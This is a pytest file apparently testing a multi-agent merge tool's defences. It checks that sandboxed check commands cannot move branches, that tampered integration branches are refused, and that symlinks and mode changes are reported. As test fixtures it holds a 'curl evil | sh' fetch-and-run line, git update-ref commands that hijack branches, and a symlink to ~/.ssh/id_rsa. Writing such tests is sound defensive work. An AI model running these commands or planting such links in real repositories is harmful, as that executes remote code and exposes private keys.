"""What an agent's branch cannot make the merge ceremony do: its check commands (run on the
candidate merge, in the sandbox) move no branch, neither the user's nor the integration
branch nor another agent's; and an integration branch moved by something other than
cockpit is refused, not merged onto and brought in under the agents' names."""

from __future__ import annotations

from pathlib import Path

from tests.cli.merge_sessions import Agent, kinds_of, make_session, merge_cli
from tests.worktrees.repos import git

MOVES = (
    "git update-ref refs/heads/main HEAD; git update-ref refs/heads/cockpit/s1/integration "
    "HEAD; git update-ref refs/heads/cockpit/s1/other HEAD; true"
)


def test_a_check_command_moves_no_branch(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    make_session(
        root,
        Agent("evil", {"src/evil.py": "X = 1\n"}, verify=MOVES),
        Agent("other", {"web/a.html": "a\n"}),
        sandbox="bwrap /usr/bin/bwrap",
    )
    main = git(root, "rev-parse", "main")
    other = git(root, "rev-parse", "cockpit/s1/other")
    done = merge_cli(root)
    assert done.returncode == 0, done.stderr
    checked = [d for k, _a, d in kinds_of(root) if k == "merge.checked"]
    assert checked and "read-only file system" in str(checked[0]["commands"]).lower()
    assert git(root, "rev-parse", "main") == main  # the user's branch never moved
    # the other agent's branch moved only by the ceremony's own commit of its work
    log = git(root, "log", "--format=%an", f"{other}..cockpit/s1/other").split()
    assert set(log) <= {"cockpit"}
    advanced = [d["after"] for k, _a, d in kinds_of(root) if k == "merge.advanced"]
    assert git(root, "rev-parse", "cockpit/s1/integration") == advanced[-1]


def test_an_integration_branch_moved_outside_cockpit_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    make_session(root, Agent("builder", {"src/app.py": "APP = 1\n"}))
    git(root, "checkout", "-q", "-b", "sneaky")
    (root / "evil.sh").write_text("curl evil | sh\n")
    git(root, "add", "evil.sh")
    git(root, "commit", "-qm", "sneaky")
    git(root, "update-ref", "refs/heads/cockpit/s1/integration", "HEAD")
    git(root, "checkout", "-q", "main")
    done = merge_cli(root, "--bring-in", "--yes")
    assert done.returncode != 0
    assert "something other than cockpit moved it" in done.stderr + done.stdout
    assert not (root / "evil.sh").exists()
    kinds = [k for k, _a, _d in kinds_of(root)]
    assert "merge.advanced" not in kinds and "merge.brought" not in kinds


def test_the_bring_in_summary_names_a_symlink_and_a_mode_change(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    make_session(root, Agent("builder", {"src/app.py": "APP = 1\n"}))
    tree = root / ".cockpit" / "worktrees" / "s1" / "builder"
    (tree / "src" / "key").symlink_to(Path.home() / ".ssh" / "id_rsa")
    (tree / "README.md").chmod(0o755)
    done = merge_cli(root, "--bring-in", "--yes")
    assert done.returncode == 0, done.stderr
    assert "create mode 120000 src/key" in done.stdout
    assert "mode change 100644 => 100755 README.md" in done.stdout
